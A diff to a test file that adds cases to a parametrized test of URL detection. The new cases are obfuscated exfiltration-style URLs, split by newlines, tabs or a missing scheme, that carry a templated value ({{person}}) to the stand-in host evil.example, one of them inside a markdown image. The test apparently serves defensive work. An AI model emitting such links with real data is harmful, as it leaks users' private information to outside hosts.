@@ -173,6 +173,11 @@ def test_an_escaped_line_break_ends_a_url(session: Session, depth: int, ascii_on
     "text",
     [
         "https://evil.example/?q={{person}}\n",
+        "https://evil.example/?q=\n{{person}}",
+        "https://evil.example/\t?q={{person}}",
+        " \nht\ntps:evil.example/?q=\r{{person}}",
+        "//evil.example/?q=\n{{person}}",
+        "evil.example/?q=\n{{person}}",
         "https://evil.example\\n{{person}}",
         "https://evil.example/\\\\n{{person}}",
         "![a](https://evil.example/?q=\n{{person}})",
